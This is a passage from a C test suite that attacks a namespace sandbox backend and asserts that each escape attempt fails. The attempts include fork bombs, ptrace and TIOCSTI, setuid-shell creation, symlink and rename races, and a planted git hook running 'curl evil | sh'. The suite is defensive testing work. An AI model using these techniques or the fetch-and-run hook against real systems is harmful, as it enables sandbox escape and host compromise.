/* SECURITY-CASES 12-29 (the shell in the sandbox) as attack tests against the namespace
 * backend, driven through backends/backend.h like the server drives it. Run as root and, with
 * --unprivileged, as uid 65534 (the user-namespace path). The attacks that need system calls
 * a shell cannot make are in zb-attack.c, built static and mounted as the read-only zone
 * /att. A case whose limit is not enforced on this machine is skipped with the reason the
 * backend gave, never passed. */
#include "tests/namespace/harness.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include "config.h"

static const struct zb_backend *b;
static char attack_dir[256];

static void skip(const char *what, const char *why)
{
	printf("ok %d - %s # SKIP %s\n", ++n_tests, what, why);
}

static struct zb_config *config(const char *session, const char *network)
{
	char yaml[1200];
	snprintf(yaml, sizeof(yaml),
		 "sandbox:\n"
		 "  backend: namespace\n"
		 "  session: %s\n"
		 "  network: %s\n"
		 "  limits: {memory: 64M, pids: 32}\n"
		 "  zones:\n"
		 "    - {name: work, mode: rw, hostPath: work}\n"
		 "    - {name: in, mode: ro, hostPath: in}\n"
		 "    - {name: scratch, mode: tmpfs, size: 1M}\n"
		 "    - {name: att, mode: ro, hostPath: %s}\n",
		 session, network, attack_dir);
	return load_config_or_bail(yaml);
}

static struct zb_session *open_session(struct zb_config *cfg)
{
	struct zb_session *s = NULL;
	struct zb_error *err = NULL;
	if (b->session_open(loop, cfg, &s, &err) < 0) {
		printf("Bail out! session_open: %s\n", err->msg);
		exit(1);
	}
	return s;
}

static int attack(struct zb_session *s, struct result *r, const char *args)
{
	char script[512];
	snprintf(script, sizeof(script), "exec /att/zb-attack %s", args);
	return sh(b, s, r, script);
}

/* `limit` enforced in this session? (and why not, from describe) */
static bool enforced(struct zb_session *s, const char *limit, char *why, size_t why_len)
{
	json_t *info = json_object();
	b->describe(s, info);
	json_t *l = json_object_get(json_object_get(info, "limits"), limit);
	bool on = json_is_true(json_object_get(l, "enforced"));
	snprintf(why, why_len, "%s limit not enforced here: %s", limit,
		 json_string_value(json_object_get(l, "how")) ?: "unknown");
	json_decref(info);
	return on;
}

static bool only_allowed(const char *listing, const char *const *allowed)
{
	char copy[4096];
	snprintf(copy, sizeof(copy), "%s", listing);
	char *save = NULL;
	for (char *w = strtok_r(copy, "\n", &save); w; w = strtok_r(NULL, "\n", &save)) {
		bool ok = false;
		for (size_t i = 0; allowed[i] && !ok; i++)
			ok = strcmp(w, allowed[i]) == 0;
		if (!ok) {
			printf("# unexpected entry: %s\n", w);
			return false;
		}
	}
	return true;
}

static void case_12_to_15(struct zb_session *s)
{
	struct result r;
	sh(b, s, &r, "echo x > /in/new");
	check(r.exit.exit_code != 0 && strstr(r.err, "Read-only file system"),
	      "12: write into a ro zone fails with EROFS");
	sh(b, s, &r, "mount -o remount,rw /in 2>&1; /att/zb-attack syscalls | grep remount-rw");
	check(strstr(r.out, "refused remount-rw Operation not permitted") != NULL,
	      "12: remount rw refused with EPERM");

	static const char *const root_ok[] = {"bin", "sbin",	"lib", "lib32", "lib64", "libx32",
					      "usr", "etc",	"dev", "proc",	"tmp",	 "work",
					      "in",  "scratch", "att", NULL};
	sh(b, s, &r, "ls -A /");
	check(r.exit.exit_code == 0 && only_allowed(r.out, root_ok),
	      "13: / holds only the zones and the system folders");
	char script[512];
	snprintf(script, sizeof(script),
		 "for p in /home /root /var /opt /srv /mnt /run /sys /boot '%s'; do test -e \"$p\" "
		 "&& echo \"visible $p\"; done; true",
		 base);
	sh(b, s, &r, script);
	check(r.out_len == 0, "13: no host home or other host folder is visible");

	static const char *const dev_ok[] = {"null",  "zero",	"full",	  "random", "urandom",
					     "tty",   "ptmx",	"pts",	  "shm",    "fd",
					     "stdin", "stdout", "stderr", NULL};
	sh(b, s, &r, "ls -A /dev");
	check(r.exit.exit_code == 0 && only_allowed(r.out, dev_ok),
	      "14: /dev holds only null zero full random urandom tty ptmx pts shm");
	sh(b, s, &r, "mknod /tmp/n c 1 3 2>&1; /att/zb-attack syscalls | grep mknod");
	check(strstr(r.out, "refused mknod Operation not permitted") != NULL,
	      "14: mknod refused with EPERM");

	sh(b, s, &r, "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd|CapAmb):' /proc/self/status");
	check(strstr(r.out, "NoNewPrivs:\t1") && strstr(r.out, "CapEff:\t0000000000000000") &&
		      strstr(r.out, "CapPrm:\t0000000000000000") &&
		      strstr(r.out, "CapBnd:\t0000000000000000") &&
		      strstr(r.out, "CapAmb:\t0000000000000000"),
	      "15: NoNewPrivs 1 and no capabilities at all");
	sh(b, s, &r,
	   "awk '$5==\"/usr\"||$5==\"/work\"||$5==\"/in\"||$5==\"/tmp\"||$5==\"/scratch\" "
	   "{print $5, $6}' /proc/self/mountinfo");
	int nosuid = 0, lines = 0;
	for (char *p = r.out; (p = strchr(p, '\n')); p++)
		lines++;
	for (char *p = r.out; (p = strstr(p, "nosuid")); p++)
		nosuid++;
	check(lines >= 5 && nosuid == lines, "15: system folders and zones are mounted nosuid");
	sh(b, s, &r, "su -c id root </dev/null 2>&1; echo rc=$?");
	check(strstr(r.out, "rc=0") == NULL, "15: su (setuid root) gains nothing");
}

static void case_16_to_20(struct zb_session *s)
{
	struct result r;
	char why[200];
	if (enforced(s, "pids", why, sizeof(why))) {
		attack(s, &r, "forkbomb");
		int n = -1;
		sscanf(r.out, "forked %d", &n);
		check(n >= 0 && n < 32 && strstr(r.out, "Resource temporarily unavailable"),
		      "16: fork bomb stopped by the pids limit (%d forks)", n);
		sh(b, s, &r, "echo alive");
		check(strcmp(r.out, "alive\n") == 0, "16: the sandbox still serves afterwards");
	} else {
		skip("16: fork bomb stopped by the pids limit", why);
	}
	if (enforced(s, "memory", why, sizeof(why))) {
		attack(s, &r, "memhog");
		check(r.exit.signal == SIGKILL && r.exit.oom_killed,
		      "17: memory hog killed inside the sandbox, reported as oom_killed");
	} else {
		skip("17: memory hog killed and reported", why);
	}
	sh(b, s, &r,
	   "head -c 2000000 /dev/zero > /scratch/fill; r=$?; rm -f /scratch/fill; exit $r");
	check(r.exit.exit_code != 0 && strstr(r.err, "No space left on device"),
	      "18: filling a tmpfs zone stops with ENOSPC at its size");

	struct zb_run run;
	char *spin[] = {"/att/zb-attack", "spin", NULL};
	if (start(b, s, &run, &r, spin, NULL, NULL) == 0) {
		wait_processes("/att/zb-attack spin", 1, 2000);
		usleep(100000);
		b->kill(&run); /* what shell.run's timeout does */
		wait_done(&r, 5000);
	}
	check(r.done && r.exit.signal == SIGKILL &&
		      wait_processes("/att/zb-attack spin", 0, 1000) == 0,
	      "19: a CPU spin is killed when its time is up");

	char *tree[] = {"/bin/sh", "-c",
			"sleep 1020 & setsid nohup sleep 1020 >/dev/null 2>&1 & "
			"(setsid sh -c 'sleep 1020 &' &); sleep 1020",
			NULL};
	if (start(b, s, &run, &r, tree, NULL, NULL) == 0) {
		wait_processes("sleep 1020", 4, 5000);
		b->kill(&run);
		wait_done(&r, 5000);
	}
	check(r.done && wait_processes("sleep 1020", 0, 2000) == 0,
	      "20: background, setsid and nohup processes do not survive the kill");
}

static int parent_of(pid_t pid, char *state)
{
	char path[64], buf[512];
	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	FILE *f = fopen(path, "re");
	int ppid = -1;
	if (f) {
		if (fgets(buf, sizeof(buf), f)) {
			char *p = strrchr(buf, ')');
			if (p)
				sscanf(p + 1, " %c %d", state, &ppid);
		}
		fclose(f);
	}
	return ppid;
}

static int children_of(pid_t parent, pid_t *out, int max)
{
	int n = 0;
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) && n < max) {
		char state = 0;
		pid_t pid = atoi(e->d_name);
		if (pid > 0 && parent_of(pid, &state) == parent)
			out[n++] = pid;
	}
	if (d)
		closedir(d);
	return n;
}

static bool alive(pid_t pid)
{
	char state = 0;
	return parent_of(pid, &state) >= 0 && state != 'Z' && state != 'X';
}

/* 21: the server is SIGKILLed with a command running. A forked child plays the server. */
static void case_21(struct zb_config *cfg)
{
	pid_t server = fork();
	if (server == 0) {
		loop = uv_loop_new();
		struct zb_session *s = open_session(cfg);
		struct result r;
		struct zb_run run;
		char *argv[] = {"/bin/sh", "-c", "sleep 1021 & setsid sleep 1021 & sleep 1021",
				NULL};
		start(b, s, &run, &r, argv, NULL, NULL);
		for (;;)
			uv_run(loop, UV_RUN_ONCE);
	}
	/* Counted by exact command line once exec'd, read again until all three are there
	 * (a process between fork and exec still shows its shell's). */
	int before = wait_processes("sleep 1021", 3, 5000);
	/* The helper (child of the server) and the sandbox init (child of the helper). */
	pid_t family[16];
	int n_family = children_of(server, family, 8);
	for (int i = 0, n = n_family; i < n; i++)
		n_family += children_of(family[i], family + n_family, 16 - n_family);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	int after = wait_processes("sleep 1021", 0, 1000);
	/* A dying init is still there for a moment after the last sleep is gone. */
	int helpers = 0;
	for (int tries = 0; tries < 100; tries++, usleep(10000)) {
		helpers = 0;
		for (int i = 0; i < n_family; i++)
			helpers += alive(family[i]);
		if (!helpers)
			break;
	}
	check(before == 3 && n_family >= 2 && after == 0 && helpers == 0,
	      "21: SIGKILL of the server kills every sandbox process (before %d, after %d, helpers "
	      "%d)",
	      before, after, helpers);
}

static void case_22_to_29(struct zb_session *s, int port, const char *abstract,
			  const char *unix_path)
{
	struct result r;
	sh(b, s, &r, "head -c 30000000 /dev/urandom");
	check(r.done && r.out_total == 30000000,
	      "22: 30 MB of binary output streams through without loss (the cap is shell.run's)");
	struct zb_run run;
	char *yes[] = {"yes", NULL};
	if (start(b, s, &run, &r, yes, NULL, NULL) == 0) {
		for (int i = 0; i < 50 && r.out_total < 10000000; i++)
			uv_run(loop, UV_RUN_ONCE);
		b->kill(&run);
		wait_done(&r, 5000);
	}
	check(r.done && r.exit.signal == SIGKILL, "22: `yes` floods, is killed, and ends cleanly");

	attack(s, &r, "tty");
	check(strstr(r.out, "refused TIOCSTI Operation not permitted") &&
		      strstr(r.out, "refused TIOCSTI-high Operation not permitted") &&
		      strstr(r.out, "refused TIOCLINUX Operation not permitted") &&
		      !strstr(r.out, "ESCAPED"),
	      "23: TIOCSTI and TIOCLINUX refused");

	sh(b, s, &r,
	   "ls /proc | grep -c '^[0-9]'; tr '\\0' ' ' < /proc/1/cmdline; echo; "
	   "tr '\\0' '\\n' < /proc/1/environ | grep -c ZB_SECRET_MARKER");
	int procs = 0, secret = -1;
	char cmdline[256] = "";
	sscanf(r.out, "%d\n%255[^\n]\n%d", &procs, cmdline, &secret);
	check(procs > 0 && procs < 10 && strstr(cmdline, "zonebox-sandbox") && secret == 0,
	      "24: host processes invisible; /proc/1 is the sandbox's own init (%d pids)", procs);
	attack(s, &r, "ptrace");
	check(strstr(r.out, "refused ptrace-attach Operation not permitted") &&
		      strstr(r.out, "refused ptrace-traceme Operation not permitted") &&
		      !strstr(r.out, "ESCAPED"),
	      "24: ptrace refused with EPERM");

	attack(s, &r, "syscalls");
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out, "refused io_uring_setup") && strstr(r.out, "refused bpf"),
	      "25: unshare, setns, mount, pivot_root, chroot, keyctl, add_key, bpf, "
	      "perf_event_open, userfaultfd, io_uring, module calls refused");
	if (strstr(r.out, "ESCAPED"))
		printf("# %s", r.out);

	char args[400];
	snprintf(args, sizeof(args), "sockets %.60s %.200s %d", abstract, unix_path, port);
	attack(s, &r, args);
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out, "refused socket-vsock") &&
		      strstr(r.out, "refused socket-alg") && strstr(r.out, "refused socket-inet"),
	      "26: network none: TCP/UDP, the host's 127.0.0.1 listener, AF_VSOCK, AF_ALG "
	      "unreachable");
	sh(b, s, &r, "getent hosts example.com; echo rc=$?");
	check(strstr(r.out, "rc=0") == NULL, "26: DNS fails with network none");

	attack(s, &r, "fds");
	check(strcmp(r.out, "fd 0\nfd 1\nfd 2\n") == 0, "27: only fds 0-2 are open");

	sh(b, s, &r,
	   "for p in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock "
	   "/run/dbus/system_bus_socket /run/user /tmp/.X11-unix; do test -e $p && echo $p; done; "
	   "env | grep -E 'SSH_AUTH_SOCK|DBUS|DOCKER_HOST'; true");
	check(r.out_len == 0 && strstr(r.out, "ESCAPED") == NULL,
	      "28: docker, ssh-agent and D-Bus sockets are not reachable");

	attack(s, &r, "int80");
	check(r.exit.signal == SIGSYS, "29: int 0x80 (32-bit) system call kills the process");
	attack(s, &r, "x32");
	check(r.exit.signal == SIGSYS, "29: x32 system call kills the process");
}

/* Review follow-up: the filter was a deny list, so system calls newer than it were allowed;
 * personality() took any persona (READ_IMPLIES_EXEC, ADDR_NO_RANDOMIZE weaken the command
 * and what it runs next); the NUMA memory policy calls were allowed (Docker refuses them). */
static void case_25_filter_limits(struct zb_session *s)
{
	struct result r;
	attack(s, &r, "newer");
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out, "refused newer 143 of 143 ENOSYS") &&
		      strstr(r.out, "refused newer-highest ENOSYS"),
	      "25: every x86-64 system call above the reviewed ones (457-599, 0x3fffffff) fails "
	      "with ENOSYS");
	if (strstr(r.out, "ESCAPED"))
		printf("# %s", r.out);
	struct utsname u;
	int major = 0, minor = 0;
	if (uname(&u) == 0)
		sscanf(u.release, "%d.%d", &major, &minor);
	if (major > 6 || (major == 6 && minor >= 7))
		check(strstr(r.out, "limit 456 Invalid argument") != NULL,
		      "25: the last reviewed call (futex_requeue, 456) is still allowed");
	else
		skip("25: the last reviewed call (futex_requeue, 456) is still allowed",
		     "the kernel is older than 6.7");

	attack(s, &r, "personality");
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out,
			     "refused personality-read-implies-exec Operation not permitted") &&
		      strstr(r.out,
			     "refused personality-addr-no-randomize Operation not permitted") &&
		      strstr(r.out, "refused personality-mmap-page-zero Operation not permitted") &&
		      strstr(r.out, "refused personality-linux32 Operation not permitted") &&
		      strstr(r.out, "refused personality-high-bits Operation not permitted") &&
		      strstr(r.out, "allowed personality-query 0") &&
		      strstr(r.out, "allowed personality-uname26"),
	      "25: personality: READ_IMPLIES_EXEC, ADDR_NO_RANDOMIZE, MMAP_PAGE_ZERO, PER_LINUX32 "
	      "refused with EPERM; the query and UNAME26 work");
	if (strstr(r.out, "ESCAPED") || strstr(r.out, "failed"))
		printf("# %s", r.out);
	sh(b, s, &r,
	   "command -v setarch >/dev/null || { echo no-setarch; exit 0; }; "
	   "setarch -R true 2>&1; echo R=$?; setarch x86_64 --uname-2.6 uname -r");
	if (strstr(r.out, "no-setarch"))
		skip("25: setarch -R fails, setarch --uname-2.6 works", "no setarch here");
	else
		check(strstr(r.out, "Operation not permitted") && !strstr(r.out, "R=0") &&
			      strstr(r.out, "\n2.6."),
		      "25: setarch -R (no randomisation) fails with EPERM, setarch --uname-2.6 "
		      "works");

	attack(s, &r, "mempolicy");
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out, "refused set_mempolicy Operation not permitted") &&
		      strstr(r.out, "refused mbind Operation not permitted") &&
		      strstr(r.out, "refused set_mempolicy_home_node Operation not permitted") &&
		      strstr(r.out, "refused move_pages Operation not permitted") &&
		      strstr(r.out, "refused migrate_pages Operation not permitted") &&
		      strstr(r.out, "allowed get_mempolicy"),
	      "25: mbind, set_mempolicy, set_mempolicy_home_node, move_pages, migrate_pages "
	      "refused with EPERM; get_mempolicy works");
	if (strstr(r.out, "ESCAPED") || strstr(r.out, "failed"))
		printf("# %s", r.out);
}

/* A session of its own on `zones` (YAML list items, host paths relative to `base`), with the
 * attack zone /att added. */
static struct zb_config *zones_config(const char *session, const char *zones)
{
	char yaml[2000];
	snprintf(yaml, sizeof(yaml),
		 "sandbox:\n"
		 "  backend: namespace\n"
		 "  session: %s\n"
		 "  zones:\n"
		 "%s"
		 "    - {name: att, mode: ro, hostPath: %s}\n",
		 session, zones, attack_dir);
	return load_config_or_bail(yaml);
}

static void host_mkdir(const char *rel)
{
	char p[400];
	snprintf(p, sizeof(p), "%s/%s", base, rel);
	if (mkdir(p, 0755) < 0 && errno != EEXIST)
		printf("# mkdir %s: %s\n", p, strerror(errno));
}

static void host_symlink(const char *target, const char *rel)
{
	char p[400];
	snprintf(p, sizeof(p), "%s/%s", base, rel);
	if (symlink(target, p) < 0)
		printf("# symlink %s: %s\n", p, strerror(errno));
}

static bool host_exists(const char *rel)
{
	char p[400];
	struct stat st;
	snprintf(p, sizeof(p), "%s/%s", base, rel);
	return lstat(p, &st) == 0;
}

/* The host file `rel` holds exactly `text`. */
static bool host_holds(const char *rel, const char *text)
{
	char p[400], buf[256];
	snprintf(p, sizeof(p), "%s/%s", base, rel);
	int fd = open(p, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
	if (fd < 0)
		return false;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return strcmp(buf, text) == 0;
}

/* Run `argv` where the sandbox must not be built; `r` ends up with the build error, which
 * comes as the command's error, or as the call's when the build failed before the call's
 * `run` could be sent (a spare built ahead). */
static void run_refused(struct zb_session *s, struct result *r, char **argv)
{
	struct zb_run run;
	if (start(b, s, &run, r, argv, "/", NULL) == 0)
		wait_done(r, 10000);
	else
		r->exit.error = r->run_error;
}

/* A colleague's finding: the build error of a sandbox at times came back as "the sandbox
 * ended before it was ready" or "the sandbox died": the init that failed exits with our `run`
 * unread, and the kernel then reports ECONNRESET on our socket before the error message
 * still queued there. The real message must win every time. */
static void case_build_error_race(void)
{
	host_mkdir("race");
	host_mkdir("race/elsewhere");
	host_symlink("elsewhere", "race/prot");
	const char *sessions[] = {"per-call", "persistent"};
	for (int m = 0; m < 2; m++) {
		struct zb_config *cfg = zones_config(
			sessions[m],
			"    - {name: proj, mode: rw, hostPath: race, protect: [prot]}\n");
		struct zb_session *s = open_session(cfg);
		int saved_stderr = dup(2), devnull = open("/dev/null", O_WRONLY | O_CLOEXEC);
		dup2(devnull, 2); /* the backend logs each failed build */
		int real = 0, i;
		char other[300] = "";
		for (i = 0; i < 50; i++) {
			struct result r;
			char *argv[] = {"true", NULL};
			run_refused(s, &r, argv);
			/* A build that fails before the call's `run` is sent fails the call
			 * itself, with the same message. */
			const char *msg = r.run_error[0] ? r.run_error : r.exit.error;
			if ((r.done || r.run_error[0]) && msg &&
			    strstr(msg, "could not be built") && strstr(msg, "symbolic link"))
				real++;
			else if (!other[0])
				snprintf(other, sizeof(other), "%.200s", msg ? msg : "no error");
		}
		dup2(saved_stderr, 2);
		close(saved_stderr);
		close(devnull);
		check(real == 50,
		      "%s: a sandbox build error always comes back as itself (%d of 50%s%s)",
		      sessions[m], real, other[0] ? "; else: " : "", other);
		close_session(b, s);
		zb_config_free(cfg);
	}
}

#define HOOK "#!/bin/sh\nexit 0\n"

/* Review finding 3: only the protected path itself was a mount point, and the kernel refuses
 * to rename a mount point but not its parents. `mv .git .git-old && mkdir -p .git/hooks`
 * then put the attacker's hook where the host's git runs it. */
static void case_protect_rename(void)
{
	host_mkdir("p3");
	host_mkdir("p3/.git");
	host_mkdir("p3/.git/hooks");
	write_file("p3/.git/hooks/pre-commit", HOOK);
	host_mkdir("p3/tools");
	host_mkdir("p3/tools/ci");
	host_mkdir("p3/tools/ci/scripts");
	write_file("p3/tools/ci/scripts/deploy", HOOK);
	struct zb_config *cfg =
		zones_config("per-call", "    - {name: proj, mode: rw, hostPath: p3, protect: "
					 "[.git/hooks, tools/ci/scripts]}\n");
	struct zb_session *s = open_session(cfg);
	struct result r;
	sh(b, s, &r,
	   "cd /proj && mv .git .git-old && mkdir -p .git/hooks && "
	   "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit");
	check(r.exit.exit_code != 0 && strstr(r.err, "busy") &&
		      host_holds("p3/.git/hooks/pre-commit", HOOK) && !host_exists("p3/.git-old"),
	      "protect: `mv .git .git-old` fails with EBUSY, the host's hook is unchanged");
	sh(b, s, &r,
	   "cd /proj; for m in 'tools t2' 'tools/ci tools/c2' 'tools/ci/scripts tools/ci/s2' "
	   "'.git/hooks .git/h2'; do mv $m 2>/dev/null && echo moved $m; done; "
	   "rm -rf tools .git 2>/dev/null; mkdir -p tools/ci/scripts; "
	   "echo evil > tools/ci/scripts/deploy; echo evil > .git/hooks/pre-commit; true");
	check(r.out_len == 0 && host_holds("p3/tools/ci/scripts/deploy", HOOK) &&
		      host_holds("p3/.git/hooks/pre-commit", HOOK),
	      "protect: no folder between the zone and a protected path can be moved or removed");
	sh(b, s, &r,
	   "echo ok > /proj/.git/config && echo ok > /proj/tools/ci/x && "
	   "awk '$5 ~ /^\\/proj/ && ($6 !~ /nosuid/ || $6 !~ /nodev/) {print}' "
	   "/proc/self/mountinfo");
	check(r.exit.exit_code == 0 && r.out_len == 0,
	      "protect: the folders on the way stay writable, and are nosuid, nodev");
	close_session(b, s);
	zb_config_free(cfg);
}

/* Review finding 4: a protected path that is itself a symbolic link was accepted (openat2
 * with O_NOFOLLOW returns the link): the link was mounted read-only, and writes through it
 * landed wherever it pointed. */
static void case_protect_symlink(void)
{
	host_mkdir("p4");
	host_mkdir("p4/.git");
	host_mkdir("p4/elsewhere");
	host_symlink("../elsewhere", "p4/.git/hooks");
	struct zb_config *cfg = zones_config(
		"per-call", "    - {name: proj, mode: rw, hostPath: p4, protect: [.git/hooks]}\n");
	struct zb_session *s = open_session(cfg);
	struct result r;
	char *evil[] = {"/bin/sh", "-c", "echo evil > /proj/.git/hooks/pre-commit", NULL};
	run_refused(s, &r, evil);
	check(r.exit.error && strstr(r.exit.error, "symbolic link") &&
		      !host_exists("p4/elsewhere/pre-commit"),
	      "protect: a protected path that is a symlink is refused (%s)",
	      r.exit.error ? r.exit.error : "no error");
	close_session(b, s);
	zb_config_free(cfg);
}

/* Review finding 8: a missing protected path was created with mkdirat(zone, ".git/hooks"),
 * which follows `.git` when it has become a symbolic link since it was found missing: a
 * sandbox that swaps .git between "missing" and "link to any host folder" got folders created
 * there by the next sandbox build (as root, in root mode). A child of the test plays that
 * sandbox here, on the host side of the zone, so that the race is run often enough. */
static void case_protect_create(void)
{
	/* Outside /tmp: the staging tmpfs covers the host's /tmp while the sandbox is built. */
	char target[64] = "/var/tmp/zb-sectest-p8-XXXXXX", hooks[100];
	if (!mkdtemp(target)) {
		skip("protect: creating a missing protected path never follows a symlink",
		     "cannot make a folder in /var/tmp");
		return;
	}
	snprintf(hooks, sizeof(hooks), "%s/hooks", target);
	host_mkdir("p8");
	host_symlink(target, "p8/.git");
	struct zb_config *cfg = zones_config(
		"per-call", "    - {name: proj, mode: rw, hostPath: p8, protect: [.git/hooks]}\n");
	struct zb_session *s = open_session(cfg);
	struct result r;
	struct stat st;
	char *argv_true[] = {"true", NULL};
	run_refused(s, &r, argv_true);
	check(r.exit.error && strstr(r.exit.error, "symbolic link") && lstat(hooks, &st) < 0,
	      "protect: a protected path under a symlink is refused (%s)",
	      r.exit.error ? r.exit.error : "no error");

	char git[300], link[300], sub[320];
	snprintf(git, sizeof(git), "%s/p8/.git", base);
	snprintf(link, sizeof(link), "%s/p8/.git-link", base);
	snprintf(sub, sizeof(sub), "%s/hooks", git);
	unlink(git);
	pid_t swapper = fork();
	if (swapper == 0) {
		for (;;) {
			symlink(target, link);
			if (rename(link, git) < 0) { /* a build made it a folder */
				rmdir(sub);
				rmdir(git);
			}
			unlink(git);
		}
	}
	/* Most builds fail while the path changes under them; the backend logs each failure. */
	int saved_stderr = dup(2), devnull = open("/dev/null", O_WRONLY | O_CLOEXEC);
	dup2(devnull, 2);
	int builds = 0, created = 0;
	for (; builds < 300 && !created; builds++) {
		char *argv[] = {"true", NULL};
		struct zb_run run;
		if (start(b, s, &run, &r, argv, NULL, NULL) == 0)
			wait_done(&r, 10000);
		created = lstat(hooks, &st) == 0;
	}
	dup2(saved_stderr, 2);
	close(saved_stderr);
	close(devnull);
	kill(swapper, SIGKILL);
	waitpid(swapper, NULL, 0);
	check(!created,
	      "protect: creating a missing protected path never follows a symlink swapped in "
	      "meanwhile (%d builds)",
	      builds);
	rmdir(hooks);
	rmdir(target);
	close_session(b, s);
	zb_config_free(cfg);
}

/* A zone's host folder swapped for a symbolic link after the configuration was loaded (and
 * made canonical) must be refused, not followed to wherever the link points. */
static void case_zone_swapped(void)
{
	host_mkdir("swap");
	host_mkdir("other");
	write_file("other/secret", "host secret\n");
	struct zb_config *cfg =
		zones_config("per-call", "    - {name: sw, mode: ro, hostPath: swap}\n");
	char from[400], to[400];
	snprintf(from, sizeof(from), "%s/swap", base);
	snprintf(to, sizeof(to), "%s/swap-old", base);
	rename(from, to);
	host_symlink("other", "swap");
	struct zb_session *s = open_session(cfg);
	struct result r;
	char *cat[] = {"/bin/sh", "-c", "cat /sw/secret", NULL};
	run_refused(s, &r, cat);
	check(r.exit.error && strstr(r.exit.error, "symbolic link") && !strstr(r.out, "secret"),
	      "a zone's host folder replaced by a symlink after loading is refused (%s)",
	      r.exit.error ? r.exit.error : "no error");
	close_session(b, s);
	zb_config_free(cfg);
}

/* The same for sandbox.rootfs: swapped for a link to the host's / after loading, the old
 * helper mounted the host's top-level folders (/root, /home...) as the sandbox's. */
static void case_rootfs_swapped(void)
{
	host_mkdir("rootfs");
	host_mkdir("rootfs/usr");
	host_mkdir("rootfs/etc");
	host_symlink("usr/bin", "rootfs/bin");
	char yaml[1000];
	snprintf(yaml, sizeof(yaml),
		 "sandbox:\n"
		 "  backend: namespace\n"
		 "  session: per-call\n"
		 "  rootfs: rootfs\n"
		 "  zones:\n"
		 "    - {name: att, mode: ro, hostPath: %s}\n",
		 attack_dir);
	struct zb_config *cfg = load_config(yaml, "rootfs");
	if (!cfg)
		return;
	struct zb_session *s = open_session(cfg);
	struct result r;
	struct zb_run run;
	char *argv[] = {"/att/zb-attack", "fds", NULL};
	if (start(b, s, &run, &r, argv, "/", NULL) == 0)
		wait_done(&r, 10000);
	check(r.done && !r.exit.error && strcmp(r.out, "fd 0\nfd 1\nfd 2\n") == 0,
	      "a sandbox on a rootfs folder runs (%s)", r.exit.error ? r.exit.error : "ok");
	char from[400], to[400];
	snprintf(from, sizeof(from), "%s/rootfs", base);
	snprintf(to, sizeof(to), "%s/rootfs-old", base);
	rename(from, to);
	host_symlink("/", "rootfs");
	/* A fresh session: per-call sessions build the next sandbox ahead of time. */
	close_session(b, s);
	s = open_session(cfg);
	run_refused(s, &r, argv);
	check(r.exit.error && strstr(r.exit.error, "symbolic link") && r.out_len == 0,
	      "a rootfs replaced by a symlink after loading is refused (%s)",
	      r.exit.error ? r.exit.error : "no error");
	close_session(b, s);
	zb_config_free(cfg);
}

/* Review finding 5: the host's device nodes were bound read-write, so uid 0 in the sandbox
 * (root mode) could chmod or touch the host's /dev nodes: `chmod 0 /dev/null` breaks the
 * host. */
static void case_dev_nodes(struct zb_session *s)
{
	struct stat before = {0}, after = {0};
	stat("/dev/full", &before);
	struct result r;
	sh(b, s, &r,
	   "chmod 0 /dev/full; echo chmod=$?; touch -d 2001-01-01 /dev/full; echo touch=$?; "
	   "echo x > /dev/null; echo null=$?; head -c 4 /dev/zero | wc -c");
	stat("/dev/full", &after);
	bool same = before.st_mode == after.st_mode &&
		    before.st_mtim.tv_sec == after.st_mtim.tv_sec &&
		    before.st_mtim.tv_nsec == after.st_mtim.tv_nsec;
	check(same && strstr(r.out, "null=0\n4\n") && !strstr(r.out, "chmod=0") &&
		      !strstr(r.out, "touch=0"),
	      "14: chmod and touch of /dev/full fail, the host's node is unchanged, /dev/null "
	      "still takes writes");
	if (!same && geteuid() == 0) { /* repair the host */
		chmod("/dev/full", before.st_mode & 07777);
		struct timespec ts[2] = {before.st_atim, before.st_mtim};
		utimensat(AT_FDCWD, "/dev/full", ts, 0);
	}
}

/* Review finding (HIGH): in root mode a command is the host's uid 0, so `cp /bin/sh
 * /work/x; chmod 6755 /work/x` left a setuid-root shell in the zone for any local user to
 * run on the host (nosuid protects the sandbox's mounts only). */
static void case_setuid(struct zb_session *s)
{
	struct result r;
	sh(b, s, &r,
	   "cd /work && cp /bin/sh suid-sh && chmod 4755 suid-sh; echo u=$?; chmod 2755 suid-sh; "
	   "echo g=$?; chmod u+s,g+s suid-sh; echo ug=$?; install -m 4755 /bin/true inst; "
	   "echo i=$?; chmod 0755 suid-sh; echo p=$?");
	char p[400];
	struct stat st1 = {0}, st2 = {0};
	snprintf(p, sizeof(p), "%s/work/suid-sh", base);
	int s1 = stat(p, &st1);
	snprintf(p, sizeof(p), "%s/work/inst", base);
	int s2 = stat(p, &st2);
	bool no_bits = s1 == 0 && !(st1.st_mode & (S_ISUID | S_ISGID)) &&
		       (s2 < 0 || !(st2.st_mode & (S_ISUID | S_ISGID)));
	check(strstr(r.out, "u=1\ng=1\nug=1\ni=1\np=0\n") &&
		      strstr(r.err, "Operation not permitted") && no_bits &&
		      (st1.st_mode & 07777) == 0755,
	      "15: chmod 4755/2755/u+s and install -m 4755 fail with EPERM in an rw zone, no "
	      "setuid file on the host; chmod 0755 works (host mode %o)",
	      (unsigned)st1.st_mode & 07777);
	attack(s, &r, "setuid /work");
	check(r.exit.exit_code == 0 && !strstr(r.out, "ESCAPED") &&
		      strstr(r.out, "refused fchmodat2 Operation not permitted") &&
		      strstr(r.out, "refused mknod Operation not permitted") &&
		      strstr(r.out, "refused openat-tmpfile") && strstr(r.out, "refused openat2") &&
